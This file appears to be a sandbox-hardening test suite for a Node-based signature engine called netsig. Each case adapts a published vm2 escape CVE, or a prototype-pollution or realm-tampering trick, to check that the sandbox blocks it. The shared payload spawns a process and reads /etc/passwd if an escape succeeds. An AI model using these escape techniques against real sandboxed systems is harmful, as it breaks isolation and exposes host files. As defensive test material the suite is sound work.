// Sandbox escape attempts, each written as a signature file of netsig's shape.
//
// Every attempt tries to reach the host's `process` (through a host Function
// constructor, a host object, a host error or a stack frame) and, if it gets
// it, calls pwnWith(): that writes <dir>/netsig-pwned-<name>, spawns
// `touch <dir>/netsig-pwned-<name>-spawned`, reads /etc/passwd and throws it
// (so it would show on stderr). <dir> is the host's $NETSIG_PWN_DIR, or /tmp.
// When every route is blocked the attempt throws "blocked: <why, per route>",
// which the engine reports as one line.
//
// The techniques are those of published vm2 escapes (the CVE / advisory is
// named on each case) adapted to run from a signature method, plus the ways a
// signature could reach the realm the other signatures share.

import { hostile } from "./hostile";

export interface EscapeCase {
  /** file name stem, and the marker name */
  name: string;
  /** what the case tries; the CVE or advisory it comes from */
  what: string;
  /** signature method running `body` ("init" runs at load time) */
  method: string;
  /** the attempt (strict mode: inside the class) */
  body: string;
  /** module-level code (sloppy mode), for techniques that need it */
  prelude?: string;
  /** the one line netsig must print about it */
  expect: RegExp;
}

/** module-level helpers every case file starts with */
export function pwnPrelude(name: string): string {
  return `
const NAME = ${JSON.stringify(name)};
function pwnWith(p) {
  if (p === null || (typeof p !== "object" && typeof p !== "function")) throw new Error("no process (" + typeof p + ")");
  if (typeof p.pid !== "number") throw new Error("not a process object");
  const dir = (p.env && p.env.NETSIG_PWN_DIR) || "/tmp";
  const get = (m) => (typeof p.getBuiltinModule === "function" ? p.getBuiltinModule(m) : p.mainModule.require(m));
  const fs = get("fs");
  fs.writeFileSync(dir + "/netsig-pwned-" + NAME, "escaped\\n");
  try { get("child_process").execFileSync("touch", [dir + "/netsig-pwned-" + NAME + "-spawned"]); } catch (e) { /* still escaped */ }
  const passwd = fs.readFileSync("/etc/passwd", "utf8");
  throw new Error("ESCAPED " + NAME + ": " + passwd);
}
/** F: something that might be a host Function constructor */
function pwnFn(F) {
  if (typeof F !== "function") throw new TypeError("not a function: " + typeof F);
  return pwnWith(F("return process")());
}
/** run every route; rethrow an escape; else throw what stopped each one */
function attempts(routes) {
  const why = [];
  for (const [label, route] of Object.entries(routes)) {
    try { route(); why.push(label + ": no error"); }
    catch (e) {
      let m; try { m = String(e && e.message !== undefined ? e.message : e); } catch (_) { m = "(unprintable)"; }
      if (m.startsWith("ESCAPED")) throw e;
      why.push(label + ": " + m.split("\\n")[0]);
    }
  }
  throw new Error("blocked: " + why.join("; "));
}
/** recurse until the stack overflows, then call f at the deepest level */
function atMaxDepth(f) {
  let out = null;
  function r() { try { r(); } catch (e) { if (out === null) { try { f(); } catch (e2) { out = e2; } } } }
  r();
  return out;
}
`;
}

/** the signature file for a case */
export function escapeFile(c: EscapeCase): string {
  return hostile(c.name.toUpperCase().replace(/[^A-Z0-9]/g, "_"), c.method, c.body, pwnPrelude(c.name) + (c.prelude ?? ""));
}

const blocked = (...why: string[]) => new RegExp(`onEvent threw: blocked: .*${why.join(".*")}`);

export const ESCAPES: EscapeCase[] = [
  {
    name: "ctor-chain",
    what: "constructor chains to Function: this, globalThis, the ctx functions, a host object (Buffer), an event",
    method: "onEvent",
    body: `attempts({
      this: () => pwnFn(this.constructor.constructor),
      globalThis: () => pwnFn(globalThis.constructor.constructor),
      proto: () => pwnFn(globalThis.__proto__.constructor.constructor("return this")().constructor.constructor),
      callback: () => pwnFn(this.ctx.callback.constructor),
      logger: () => pwnFn(this.ctx.logger.info.constructor),
      event: () => pwnFn(e.constructor.constructor),
      buffer: () => pwnFn(Buffer.from.constructor),
      bufferProto: () => pwnFn(Object.getPrototypeOf(Buffer.prototype).constructor.constructor),
    });`,
    // (vm2 hands the sandbox its own Function for a host function's constructor)
    expect: blocked("this: Code generation from strings disallowed", "buffer: Code generation from strings disallowed"),
  },
  {
    name: "cve-2022-36067",
    what: "CVE-2022-36067: globalThis.Error swapped for an object whose prepareStackTrace V8 calls with host CallSites",
    method: "onEvent",
    body: `const OldError = globalThis.Error;
    try {
      attempts({
        swap: () => {
          globalThis.Error = {};
          globalThis.Error.prepareStackTrace = (s, traces) => {
            for (const t of traces) { const self = t.getThis(); if (self && self.process) pwnWith(self.process); }
            return "x";
          };
          const { stack } = new OldError();
          throw new Error("stack came back as " + typeof stack);
        },
      });
    } finally { globalThis.Error = OldError; }`,
    expect: blocked("swap: "),
  },
  {
    name: "prepare-stack-trace",
    what: "Error.prepareStackTrace override (issue #444, CVE-2023-29017's sync half): frames' getThis/getFunction and the frames array's constructor",
    method: "onEvent",
    body: `const seen = [];
    const prev = Error.prepareStackTrace;
    try {
      Error.prepareStackTrace = (err, frames) => {
        try { pwnFn(frames.constructor.constructor); } catch (x) { if (String(x.message).startsWith("ESCAPED")) throw x; seen.push("frames: " + x.message); }
        for (const f of frames) {
          const self = f.getThis && f.getThis();
          const fn = f.getFunction && f.getFunction();
          if (self && self.process) pwnWith(self.process);
          if (fn) { try { pwnFn(fn.constructor); } catch (x) { if (String(x.message).startsWith("ESCAPED")) throw x; } }
        }
        return "s";
      };
      new Error().stack;
    } finally { Error.prepareStackTrace = prev; }
    throw new Error("blocked: " + seen.join("; "));`,
    expect: /onEvent threw: blocked: frames: Code generation from strings disallowed/,
  },
  {
    name: "cve-2023-29017",
    what: "CVE-2023-29017: prepareStackTrace reached with host frames through an async function's unhandled error",
    method: "init",
    prelude: `
Error.prepareStackTrace = (e, frames) => { pwnFn(frames.constructor.constructor); };
async function aa() { eval("1=1"); }
`,
    body: `aa();`,
    expect: /cve-2023-29017\.ts:\d+:\d+: .*[Aa]sync not available/,
  },
  {
    name: "cve-2023-29199",
    what: "CVE-2023-29199: the transformer's catch rewriting fooled by its internal name; a host RangeError from a stack overflow",
    method: "onEvent",
    prelude: `
aVM2_INTERNAL_TMPNAME = {};
function attempt29199() {
  // the PoC's stack() recursion, made cheap: format a stack only at the deepest levels
  let got = null;
  function stack() { try { stack(); } catch (x) { if (got === null) { try { new Error().stack; } catch (a$tmpname) { got = a$tmpname; } } } }
  stack();
  if (got === null) throw new Error("no error at max depth");
  pwnFn(got.constructor.constructor);
}
`,
    body: `attempts({ tmpname: attempt29199 });`,
    // (whether the stack formatter overflows first varies from run to run)
    expect: blocked("tmpname: (Code generation from strings disallowed|no error at max depth)"),
  },
  {
    name: "cve-2023-30547",
    what: "CVE-2023-30547: a thrown Proxy whose getPrototypeOf trap overflows the stack inside handleException",
    method: "onEvent",
    body: `attempts({
      proxyThrow: () => {
        const handler = { getPrototypeOf(t) { (function stack() { new Error().stack; stack(); })(); } };
        const proxied = new Proxy({}, handler);
        try { throw proxied; } catch ({ constructor: c }) { pwnFn(c.constructor); }
      },
    });`,
    expect: blocked("proxyThrow: "),
  },
  {
    name: "cve-2023-32314",
    what: "CVE-2023-32314: Error name with a Proxy toString: V8's stack formatter hands it host arguments",
    method: "onEvent",
    body: `attempts({
      nameProxy: () => {
        const err = new Error();
        err.name = { toString: new Proxy(() => "", { apply(t, thiz, args) { pwnFn(args.constructor.constructor); } }) };
        try { err.stack; } catch (x) { pwnFn(x.constructor.constructor); }
        throw new Error("stack formatted without a host object");
      },
    });`,
    expect: blocked("nameProxy: "),
  },
  {
    name: "error-primitive",
    what: "the error generation primitive (name = Symbol(); .stack) and a stack overflow while calling host Buffer code (issue #197): host errors caught in the sandbox",
    method: "onEvent",
    body: `attempts({
      symbolName: () => {
        const err = new Error(); Object.defineProperty(err, "name", { value: Symbol() });
        try { err.stack; } catch (x) { pwnFn(x.constructor.constructor); }
        throw new Error("no error");
      },
      hostOverflow: () => {
        const x = atMaxDepth(() => Buffer.prototype.write.call({ length: 10, utf8Write() {} }));
        if (x === null) throw new Error("no error at max depth");
        pwnFn(x.constructor.constructor);
      },
    });`,
    expect: blocked("symbolName: "),
  },
  {
    name: "cve-2023-37466",
    what: "CVE-2023-37466: an async function's promise with a Symbol.species constructor capturing the raw rejection",
    method: "init",
    prelude: `
async function fn() { (function stack() { new Error().stack; stack(); })(); }
function attempt37466() {
  const p = fn();
  p.constructor = { [Symbol.species]: class FakePromise { constructor(ex) { ex((x) => x, (err) => pwnFn(err.constructor.constructor)); } } };
  p.then();
}
`,
    body: `attempt37466();`,
    expect: /cve-2023-37466\.ts:\d+:\d+: .*[Aa]sync not available/,
  },
  {
    name: "promise-species",
    what: "CVE-2023-37466 without the async keyword: Promise.resolve() and new Promise with a Symbol.species constructor, thenables",
    method: "onEvent",
    body: `attempts({
      species: () => {
        const p = Promise.resolve(1);
        p.constructor = { [Symbol.species]: class FakePromise { constructor(ex) { ex((x) => x, (err) => pwnFn(err.constructor.constructor)); } } };
        p.then();
      },
      executor: () => {
        let out = new Error("executor not run");
        new Promise((res, rej) => { try { pwnFn(rej.constructor); } catch (x) { out = x; } });
        throw out;
      },
      thenable: () => { Promise.resolve({ then(res, rej) { pwnFn(res.constructor); } }); },
    });`,
    expect: blocked("species: .*[Aa]sync not available"),
  },
  {
    name: "cve-2023-37903",
    what: "CVE-2023-37903: Symbol.for('nodejs.util.inspect.custom') on an object handed to WebAssembly.compileStreaming (and to console.log)",
    method: "onEvent",
    body: `const sym = Symbol.for("nodejs.util.inspect.custom");
    const obj = { [sym]: (depth, opt, inspect) => pwnFn(inspect.constructor), valueOf: undefined, constructor: undefined };
    attempts({
      compileStreaming: () => WebAssembly.compileStreaming(obj).catch(() => {}),
      console: () => { console.log(obj); throw new Error("console.log did not call it"); },
    });`,
    expect: blocked("compileStreaming: "),
  },
  {
    name: "cve-2021-23449",
    what: "CVE-2021-23449: dynamic import() and its promise's toString constructor",
    method: "onEvent",
    body: `attempts({ import: () => { const res = import("fs"); pwnWith(res.toString.constructor("return this")().process); } });`,
    expect: blocked("import: .*Dynamic Import not supported"),
  },
  {
    name: "caller-chain",
    what: "arguments.callee.caller / f.caller walked up from code the realm calls (getters of a finding, a Proxy)",
    method: "onEvent",
    prelude: `
function callers() {
  const out = [];
  let f = arguments.callee;
  for (let i = 0; i < 50 && f; i++) { try { f = f.caller; } catch (e) { out.push("caller threw: " + e.message); break; } if (f) out.push(f); }
  return out;
}
function findingWithGetter(meta, e, why) {
  return { get sigMetadata() { tryCallers(why); return meta; }, event: e, data: {} };
}
function tryCallers(why) {
  for (const f of callers()) {
    if (typeof f === "string") { why.push(f); continue; }
    try { pwnFn(f.constructor); } catch (x) { if (String(x.message).startsWith("ESCAPED")) throw x; why.push(x.message); }
  }
}
`,
    body: `const why = [];
    const sig = this;
    const finding = findingWithGetter(this.getMetadata(), e, why);
    try { this.ctx.callback(finding); } catch (x) { why.push("callback: " + x.message); }
    tryCallers(why);
    throw new Error("blocked: callers gave " + (why.length ? [...new Set(why)].join("; ") : "nothing"));`,
    expect: /onEvent threw: blocked: callers gave /,
  },
  {
    name: "event-proto",
    what: "__proto__ writes and prototype swaps on the events (its own instance: e2eDNS, which gets the same events, has another)",
    method: "onEvent",
    body: `attempts({
      protoWrite: () => { e.__proto__.polluted = 1; },
      setProto: () => { Object.setPrototypeOf(e, { get eventName() { return "x"; } }); },
      ownWrite: () => { e.eventName = "x"; },
      nested: () => { e.args[0].value = "x"; },
      objectProto: () => { ({}).__proto__.polluted = 1; },
    });`,
    // (setProto and ownWrite change this signature's own instance only; src/dst are one frozen pair per packet)
    expect: blocked(
      "protoWrite: Cannot add property polluted",
      "setProto: no error",
      "ownWrite: no error",
      "nested: Cannot assign to read only",
      "objectProto: Cannot add property polluted",
    ),
  },
  {
    name: "eval-wasm",
    what: "new Function, eval, indirect eval, WebAssembly (all disabled)",
    method: "onEvent",
    body: `attempts({
      newFunction: () => pwnWith(new Function("return process")()),
      eval: () => pwnWith(eval("process")),
      indirectEval: () => pwnWith((0, eval)("this.process")),
      generator: () => pwnFn(Object.getPrototypeOf(function* () {}).constructor),
      wasm: () => { new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); throw new Error("wasm compiled"); },
    });`,
    expect: blocked("newFunction: Code generation from strings disallowed", "eval: ", "wasm: "),
  },
  {
    name: "atomics-wait",
    what: "Atomics.wait on a SharedArrayBuffer nobody will notify: blocks the thread",
    method: "onEvent",
    body: `Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);`,
    expect: /signature ATOMICS_WAIT \(.*atomics-wait\.ts\) quarantined: it (ran longer than \d+ ms|stopped the sandbox)/,
  },
  {
    name: "etc-passwd",
    what: "reading /etc/passwd by every name a signature might reach fs or process through",
    method: "onEvent",
    prelude: `const req = typeof require === "function" ? require : null;`,
    body: `attempts({
      require: () => { this.ctx.logger.info(req("fs").readFileSync("/etc/passwd", "utf8")); },
      requireNode: () => { this.ctx.logger.info(req("node:fs").readFileSync("/etc/passwd", "utf8")); },
      process: () => pwnWith(globalThis.process),
      binding: () => pwnWith({ pid: 1, getBuiltinModule: (m) => process.binding(m) }),
      module: () => pwnWith(module.constructor._load("process")),
    });`,
    expect: blocked('require: signatures can import only "netsig" and "netsig/helpers", not "fs"', "process: no process"),
  },
  {
    name: "ctx-pollution",
    what: "prototype pollution of the objects handed out: ctx.callback, ctx.logger, their prototypes (shared with the realm and the other signatures)",
    method: "onEvent",
    body: `attempts({
      callbackProto: () => { Object.getPrototypeOf(this.ctx.callback).call = () => 1; },
      callbackApply: () => { this.ctx.callback.__proto__.apply = () => 1; },
      loggerProto: () => { Object.getPrototypeOf(this.ctx.logger).toJSON = () => "x"; },
      hasInstance: () => { Object.defineProperty(Function.prototype, Symbol.hasInstance, { value: () => true }); },
      arraySpecies: () => { Object.defineProperty(Array, Symbol.species, { get() { return function () { return []; }; } }); },
      promiseSpecies: () => { Object.defineProperty(Promise, Symbol.species, { value: function () {} }); },
      arrayProto: () => { Array.prototype.some = () => false; },
      objectProto: () => { Object.prototype.toJSON = () => ({}); },
    });`,
    expect: blocked(
      "callbackProto: Cannot assign to read only",
      "loggerProto: Cannot add property toJSON",
      "arrayProto: Cannot assign to read only",
    ),
  },
  {
    name: "buffer-alloc",
    what: "2 GB outside the JS heap: Buffer.alloc and an ArrayBuffer",
    method: "onEvent",
    body: `attempts({
      buffer: () => { this.keep = Buffer.alloc(2 ** 31 - 1); },
      arrayBuffer: () => { this.keep2 = new Uint8Array(2 ** 31); this.keep2.fill(1); },
    });`,
    expect: blocked("buffer: .*bufferAllocLimit|buffer: .*exceeds"),
  },
  // ---- the realm the signatures share: a signature must not reach the other signatures through it
  {
    name: "realm-internals",
    what: "the realm object and the worker's hooks as globals: disable the other signatures, drop their findings, frame one for quarantine",
    method: "onEvent",
    body: `attempts({
      disable: () => { for (const s of globalThis.__netsig.sigs) if (s.sig !== this) s.disabled = true; },
      dropFindings: () => { const o = __netsig.out; Object.defineProperty(o, "findings", { get: () => [], set() {} }); },
      replaceOnEvent: () => { for (const s of __netsig.sigs) if (s.sig !== this) s.sig = { onEvent() {}, close() {} }; },
      mark: () => { __mark(0); },
      freeze: () => { __netsig_freeze(); },
    });`,
    expect: blocked("disable: .*(__netsig|undefined)", "mark: __mark is not defined"),
  },
  {
    name: "frame-other",
    what: "hang with the realm's 'running' pointer set to another signature, so the host quarantines that one",
    method: "onEvent",
    body: `try { const n = globalThis.__netsig; if (n) { const other = n.sigs.find((s) => s.sig !== this); n.current = other.index; } } catch (x) { /* keep going */ }
    for (;;) {}`,
    expect: /signature FRAME_OTHER \(.*frame-other\.ts\) quarantined: it ran longer than \d+ ms/,
  },
  {
    name: "init-pollution",
    what: "prototype pollution at load time (module code and init run before the realm is frozen): Array.prototype.some, Object.prototype",
    method: "init",
    prelude: `
const polluted = [];
try { Array.prototype.some = function () { return false; }; polluted.push("Array.prototype.some"); } catch (e) { /* frozen */ }
try { Object.prototype.TXTs = null; polluted.push("Object.prototype.TXTs"); } catch (e) { /* frozen */ }
`,
    body: `"use strict"; Array.prototype.includes = () => false;`,
    expect: /init-pollution\.ts:\d+:\d+: Cannot assign to read only property 'includes'/,
  },
  {
    name: "global-swap",
    what: "replacing the globals the realm's own code uses (JSON, Array, Object) so the others' findings are dropped",
    method: "onEvent",
    body: `const J = JSON;
    attempts({
      json: () => { globalThis.JSON = { parse: J.parse, stringify: (v) => J.stringify(v && v.findings ? { ...v, findings: [] } : v) }; },
      array: () => { globalThis.Array = function () { return []; }; },
      object: () => { delete globalThis.Object; },
    });`,
    expect: blocked("json: Cannot assign to read only property 'JSON'", "array: Cannot assign to read only property 'Array'"),
  },
];
